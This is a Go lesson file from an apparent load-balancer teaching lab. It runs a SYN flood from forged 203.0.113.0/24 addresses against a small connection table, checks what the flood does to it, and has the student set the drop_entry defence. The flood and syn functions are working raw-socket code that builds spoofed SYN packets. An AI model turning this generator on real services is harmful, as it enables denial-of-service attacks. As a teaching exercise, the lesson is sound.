package lesson

import (
	"encoding/binary"
	"fmt"
	"net/netip"

	"golang.org/x/sys/unix"

	"ulvs/control/api"
	"ulvs/lab"
	"ulvs/wire"
)

var synFlood = Lesson{
	Name:  "syn-flood",
	Title: "A SYN flood against the table",
	Goal: `Each SYN costs the director an entry of its table and the sender nothing. You will flood a small table from
forged addresses, and see who loses an entry and who does not.`,
	Network: lab.Config{Mode: lab.DR, Servers: 2},
	Finding: "table-full",
	Play:    playFlood,
	Exercise: Exercise{
		Task: `The flood is over, but its half-open connections would stay for a minute. Make the director throw them out
without touching the established one: one setting, on whatever the table's state (see ulvs set).`,
		Host:     "director",
		Solution: []string{"ulvs set drop_entry=3"},
		Mark: func(s *Stage) {
			before := s.info().Connections
			s.quietly("director", "sleep 3")
			after := s.info().Connections
			s.Mark(after < before, "the table gets emptier by itself")
			arrived := flooded.upload(1000, patience)
			s.Mark(arrived == 1000, "1000 bytes on the established connection: %d arrived", arrived)
		},
	},
}

// flooded is the established connection of the exercise.
var flooded *Conn

// floodCapacity is the size of the table: small, for a flood that takes no
// time. floodSize is how many SYNs are sent.
const (
	floodCapacity = 4096
	floodSize     = 20000
)

func playFlood(s *Stage) {
	s.Part("A small table")
	s.StartDirector("--capacity", fmt.Sprint(floodCapacity))
	for _, line := range s.Rules("rr", []int{1, 1})[1:] {
		s.Run("director", "ipvsadm "+line)
	}
	s.Serve(httpPort)
	old := s.Connect()
	s.List()
	s.Say(`One client is connected. The table has room for 4096 connections; the usual size is a million, which a flood
fills as well, only later.`)
	s.Part("Break it: the flood")
	s.Say(`Twenty thousand SYNs, each from another address and port of 203.0.113.0/24, where nobody is. The servers' SYN+ACKs
go nowhere, and no handshake is ever completed.`)
	p := s.Predict(`The table fills up and stays full. For each new SYN a half-open connection is thrown out, never an
established one.`)
	hops := s.Watch(isSYN, 4, func() { s.must(s.flood(1)) })
	s.Show(hops)
	s.Say("This is the first of them. Nothing comes back from the server, which has no way to the sender.")
	s.must(s.flood(floodSize))
	s.await("the flood to arrive", func(st *api.State) bool { return st.Stats.Conns > floodCapacity })
	full := s.info()
	p.Check(full.Connections >= full.Capacity*9/10, "the table has %d entries and is full of half-open connections", full.Capacity)
	s.Diagnose()
	p = s.Predict("The client that was connected before does not notice: 1000 bytes arrive.")
	arrived := old.upload(1000, patience)
	p.Check(arrived == 1000, "%d arrived at %s", arrived, old.Server)
	_ = old.TCPConn.Close()
	p = s.Predict(`A new client gets in too: its SYN takes the place of a forged one, and once its handshake is done it is
safe.`)
	got := tally(s.hurriedRequests(4))
	p.Check(got == "rs1 2, rs2 2", "four requests: %s", got)
	s.Say(`What the flood does do: a client whose handshake takes longer than the flood needs to go once through the table
loses its entry in between, and has to begin again. A larger table makes that time longer. The settings drop_entry,
drop_packet and secure_tcp are ip_vs's defences, and ulvs has them.`)
	flooded, _ = s.Try(netip.Addr{}, s.Service(), patience)
	if flooded == nil {
		s.must(fmt.Errorf("connect during the flood: no answer"))
	}
}

func (s *Stage) info() *api.Info {
	info, err := s.control().Info(s.ctx)
	s.must(err)
	return info
}

// flood sends n SYNs for the service from the client's interface, with forged
// sources.
func (s *Stage) flood(n int) (err error) {
	entering := s.Client.Do(func() {
		var fd int
		if fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW); err != nil {
			return
		}
		defer unix.Close(fd)
		to := &unix.SockaddrInet4{Addr: s.VIP.As4()}
		for i := 0; i < n && err == nil; i++ {
			from := netip.AddrFrom4([4]byte{203, 0, 113, byte(1 + i%250)})
			err = unix.Sendto(fd, syn(netip.AddrPortFrom(from, uint16(1024+i/250)), s.Service()), 0, to)
		}
	})
	if entering != nil {
		return entering
	}
	return err
}

// tcpLen is the length of a TCP header without options, bytes.
const tcpLen = 20

// syn is an IPv4 packet that would begin a connection.
func syn(from, to netip.AddrPort) []byte {
	b := make([]byte, wire.IPv4Len+tcpLen)
	src, dst := wire.AddrFrom(from.Addr()), wire.AddrFrom(to.Addr())
	h := wire.IPv4Header{TotalLen: len(b), TTL: 64, Protocol: wire.ProtoTCP, Src: from.Addr().As4(), Dst: to.Addr().As4()}
	h.Put(b)
	t := b[wire.IPv4Len:]
	binary.BigEndian.PutUint16(t, from.Port())
	binary.BigEndian.PutUint16(t[2:], to.Port())
	t[12] = tcpLen / 4 << 4
	t[13] = flagSYN
	binary.BigEndian.PutUint16(t[14:], 64240) // window
	binary.BigEndian.PutUint16(t[16:], wire.Checksum(t, wire.PseudoSum(src, dst, wire.ProtoTCP, tcpLen)))
	return b
}
